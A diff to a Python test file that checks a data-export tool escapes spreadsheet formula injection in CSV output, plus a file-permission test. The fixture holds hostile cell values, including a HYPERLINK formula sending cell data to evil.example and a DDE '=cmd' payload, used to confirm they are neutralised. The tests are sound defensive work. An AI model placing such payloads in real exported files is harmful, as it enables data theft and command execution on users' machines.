@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import json
+import os
 
 import openpyxl
 import pytest
@@ -37,7 +38,7 @@ def test_export_then_sync_back_makes_no_writes(stocked, tmp_path, suffix):
                 stderr=io.StringIO())
     assert code == 0
     assert "Exported 6 layers of 3 target materials" in out.getvalue()
-    assert "1 target material(s) without layers" in out.getvalue()
+    assert "1 target material without layers is not listed" in out.getvalue()
     assert "1 duplicate layer record" in out.getvalue()
     stocked.stats.reset()
     outcome = sync_file(path, api_key=API_KEY, api_url=stocked.url, report=False)
@@ -70,3 +71,81 @@ def test_export_refuses_to_overwrite_and_needs_a_key(stocked, tmp_path):
     assert main(["export", str(tmp_path / "n.csv"), "--api-url", stocked.url], environ={},
                 stdout=io.StringIO(), stderr=err) == 2
     assert "ATOMSCALE_API_KEY" in err.getvalue()
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+SrTiO3", "=cmd|' /C calc'!A0",
+                 "@SUM(1)", "\tTab start", "\rCR start", "-1.5", "-ve control"]
+
+
+@pytest.fixture
+def hostile(sandbox):
+    sandbox.store.seed([{"id": 3000 + n, "sample_id": 300 + n, "sample_name": name,
+                         "substrate": "Si", "layer_id": 1, "composition_string": "SrTiO3",
+                         "orientation": "-110"} for n, name in enumerate(HOSTILE_NAMES)])
+    sandbox.stats.reset()
+    return sandbox
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_guarded(hostile, tmp_path):
+    import csv
+
+    path = tmp_path / "export.csv"
+    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
+                stdout=io.StringIO(), stderr=io.StringIO()) == 0
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    names = [r["sample_name"] for r in rows]
+    assert names == ["'" + n for n in HOSTILE_NAMES[:6]] + ["-1.5", "'-ve control"]
+    assert {r["orientation"] for r in rows} == {"-110"}  # Miller indices stay as they are
+    for row in rows:  # nothing in the file starts a formula any more
+        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
+
+
+@pytest.mark.parametrize("value,written", [
+    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+SrTiO3", "'+SrTiO3"),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("@SUM(1)", "'@SUM(1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-x", "'-x"), ("-", "'-"),
+    ("-110", "-110"), ("-1-10", "-1-10"), ("1-10", "1-10"), ("-1.5", "-1.5"), ("+3", "+3"),
+    ("-2e5", "-2e5"), ("-inf", "'-inf"), ("SrTiO3", "SrTiO3"), ("", ""), (12, 12),
+])
+def test_csv_safe(value, written):
+    from layer_sync.templates import csv_safe
+
+    assert csv_safe(value) == written
+
+
+@pytest.mark.xfail(strict=True, reason="needs the reader to remove the guard apostrophe (issue 10 "
+                   "item 6, the sheet reader's part); remove this mark after the merge")
+def test_guarded_csv_reads_back_as_the_server_has_it(hostile, tmp_path):
+    from layer_sync.sheet import read_stacks
+
+    path = tmp_path / "export.csv"
+    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
+                stdout=io.StringIO(), stderr=io.StringIO()) == 0
+    names = [row.values.get("sample_name") for row in read_stacks(path).rows]
+    assert names == HOSTILE_NAMES
+
+
+def test_guarded_csv_syncs_back_with_no_writes(hostile, tmp_path):
+    # With sample names compared to the server's (issue 11), this holds only when the reader
+    # removes the apostrophe that the export added.
+    path = tmp_path / "export.csv"
+    assert main(["export", str(path), "--api-url", hostile.url], environ=ENV,
+                stdout=io.StringIO(), stderr=io.StringIO()) == 0
+    hostile.stats.reset()
+    outcome = sync_file(path, api_key=API_KEY, api_url=hostile.url, report=False)
+    assert outcome.exit_code == 0, [i.message for i in outcome.issues]
+    assert outcome.requests == {"GET": 1}
+
+
+def test_exported_files_have_the_users_umask(stocked, tmp_path):
+    import stat
+
+    previous = os.umask(0o027)  # this test's process setting, put back below
+    try:
+        for name in ("e.csv", "e.xlsx"):
+            assert main(["export", str(tmp_path / name), "--api-url", stocked.url], environ=ENV,
+                        stdout=io.StringIO(), stderr=io.StringIO()) == 0
+    finally:
+        os.umask(previous)
+    assert {stat.S_IMODE((tmp_path / n).stat().st_mode) for n in ("e.csv", "e.xlsx")} == {0o640}
